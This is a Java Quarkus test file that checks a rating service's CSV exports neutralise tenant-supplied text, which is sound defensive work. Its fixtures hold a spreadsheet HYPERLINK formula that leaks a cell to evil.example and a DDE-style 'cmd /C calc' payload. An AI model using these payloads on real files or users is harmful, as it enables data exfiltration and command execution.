package io.ratekit.storage.report;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.ratekit.frames.DataPoint;
import io.ratekit.frames.Frame;
import io.ratekit.frames.Period;
import io.ratekit.storage.ingest.FrameWriter;
import jakarta.inject.Inject;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Resource names and tags come from tenants: a group value {@code =HYPERLINK(...)} or
 * {@code @SUM(...)} reaches the CSV exports as text a spreadsheet shows, not as a formula it runs;
 * prices stay numbers, negative ones too.
 */
@QuarkusTest
@TestSecurity(user = "olga", roles = "rating-admin")
class CsvInjectionTest {

    private static final String BEGIN = "2022-05-01T00:00:00Z";
    private static final String END = "2022-06-01T00:00:00Z";
    private static final String LINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";

    @Inject
    FrameWriter writer;

    @BeforeEach
    void storeHostileNames() {
        Instant begin = Instant.parse("2022-05-03T10:00:00Z");
        DataPoint point = new DataPoint("+u", new BigDecimal("2"), new BigDecimal("-0.5"),
                Map.of("project_id", "csvinj-a", "id", LINK), Map.of("flavor", "@SUM(1+1)*cmd|' /C calc'!A0"), List.of());
        writer.write(Frame.of("csvinj-a", "test", new Period(begin, begin.plusSeconds(3600)), Map.of("vcpu", List.of(point)), false));
    }

    @Test
    void theSummaryCsvNeutralisesGroupValuesAndKeepsNegativeNumbers() {
        String csv = given().queryParam("begin", BEGIN).queryParam("end", END).queryParam("filters", "project_id:csvinj-a")
                .queryParam("groupby", "id,flavor").queryParam("format", "csv")
                .get("/v2/summary").then().statusCode(200).contentType("text/csv").extract().asString();
        assertThat(csv.split("\r\n")).containsExactly(
                "begin,end,qty,rate,id,flavor",
                BEGIN + "," + END + ",2,-0.5,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\","
                        + "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
    }

    @Test
    void theDataframesCsvNeutralisesTextCells() {
        String csv = given().queryParam("begin", BEGIN).queryParam("end", END).queryParam("filters", "project_id:csvinj-a")
                .queryParam("format", "csv")
                .get("/v2/dataframes").then().statusCode(200).contentType("text/csv").extract().asString();
        String[] lines = csv.split("\r\n");
        assertThat(lines).hasSize(2);
        // unit "+u" neutralised; qty and the negative price as numbers; the JSON cells start with '{' and stay JSON
        assertThat(lines[1]).startsWith("2022-05-03T10:00:00Z,2022-05-03T11:00:00Z,csvinj-a,vcpu,\"'+u\",2,-0.5,\"{");
        assertThat(lines[1]).doesNotContain(",=").doesNotContain(",@").doesNotContain(",\"=").doesNotContain(",\"@");
    }
}
